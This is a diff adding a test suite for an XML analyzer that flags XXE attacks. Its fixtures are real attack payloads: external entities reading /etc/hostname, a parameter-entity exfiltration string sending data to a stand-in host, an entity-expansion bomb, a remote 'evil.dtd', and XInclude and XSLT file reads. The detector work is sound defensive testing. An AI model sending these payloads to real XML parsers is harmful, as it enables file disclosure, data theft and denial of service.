@@ -1,0 +1,62 @@
+import { describe, expect, test } from "bun:test";
+import { xmlAnalyzer } from "../../../src/detect/analyzers/xml.ts";
+import { HUGE, junk, leaf, rules, spansValid, strongest } from "./protocols-helpers.ts";
+
+const doctype = (text: string) => leaf(text, { kind: "xml-doctype", location: "body", path: "body.xml.doctype", name: "" });
+
+describe("xml analyzer (XXE)", () => {
+  test("an external entity is strong, with its declaration as evidence", () => {
+    const text = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY ext SYSTEM "file:///etc/hostname">]><r>&ext;</r>`;
+    const [f] = xmlAnalyzer.analyze(leaf(text));
+    expect(f?.rule).toBe("xml.external-entity");
+    expect(f!.strength).toBeGreaterThanOrEqual(0.9);
+    expect(text.slice(f!.start, f!.end)).toBe(`<!ENTITY ext SYSTEM "file:///etc/hostname"`);
+  });
+
+  test("PUBLIC entities, parameter entities and a DOCTYPE leaf are read alike", () => {
+    expect(rules(xmlAnalyzer, doctype(`<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B" "http://198.51.100.2/e">]>`))).toContain("xml.external-entity");
+    expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://a.example/x.dtd"> %p;]>`))).toContain("xml.parameter-entity");
+    // A parameter entity whose value is more DTD: the nested declaration is smuggled inside it.
+    expect(strongest(xmlAnalyzer, leaf(`<!ENTITY % wrap "<!ENTITY &#37; send SYSTEM 'http://a.example/?%data;'>">`))).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test("an expansion bomb is strong; one internal entity is only a weak probe", () => {
+    const levels = Array.from({ length: 5 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(8)}">`).join("");
+    expect(rules(xmlAnalyzer, leaf(`<!DOCTYPE b [<!ENTITY l0 "ha">${levels}]><b>&l5;</b>`))).toContain("xml.entity-expansion");
+    const one = strongest(xmlAnalyzer, leaf(`<!DOCTYPE note [<!ENTITY who "World">]><note>Hello &who;</note>`));
+    expect(one).toBeGreaterThan(0);
+    expect(one).toBeLessThan(0.8);
+  });
+
+  test("an external DTD counts unless it is a standard public one", () => {
+    expect(strongest(xmlAnalyzer, leaf(`<!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd"><r/>`))).toBeGreaterThanOrEqual(0.8);
+    const xhtml = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>`;
+    expect(xmlAnalyzer.analyze(leaf(xhtml))).toEqual([]);
+    expect(xmlAnalyzer.analyze(leaf("<!doctype html><p>hi</p>"))).toEqual([]);
+  });
+
+  test("XInclude with its namespace, and XSLT that reads documents", () => {
+    const xi = `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`;
+    expect(rules(xmlAnalyzer, leaf(xi))).toContain("xml.xinclude");
+    const xsl = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('/etc/hostname')"/></xsl:template></xsl:stylesheet>`;
+    expect(rules(xmlAnalyzer, leaf(xsl))).toContain("xml.xslt-read");
+  });
+
+  test("ordinary XML, SOAP and text are no finding", () => {
+    for (const text of ["<?xml version=\"1.0\"?><order><id>42</id><note>a &amp; b</note></order>", "plain words 123", "a <b> tag & more", "<!-- comment --><x/>"]) {
+      expect(xmlAnalyzer.analyze(leaf(text))).toEqual([]);
+    }
+  });
+
+  test("a megabyte value and binary junk: a correct answer, no throw", () => {
+    expect(xmlAnalyzer.analyze(leaf(HUGE))).toEqual([]);
+    const padded = `${HUGE}<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>`;
+    const found = xmlAnalyzer.analyze(leaf(padded));
+    expect(found.map((f) => f.rule)).toEqual(["xml.external-entity"]);
+    expect(found[0]!.start).toBe(padded.indexOf("<!ENTITY"));
+    // Declarations whose literals run into each other: each read once, one weak finding.
+    expect(rules(xmlAnalyzer, leaf(`<!ENTITY a "`.repeat(50_000)))).toEqual(["xml.internal-entity"]);
+    const j = junk();
+    expect(spansValid(xmlAnalyzer.analyze(leaf(j)), j)).toBe(true);
+  });
+});
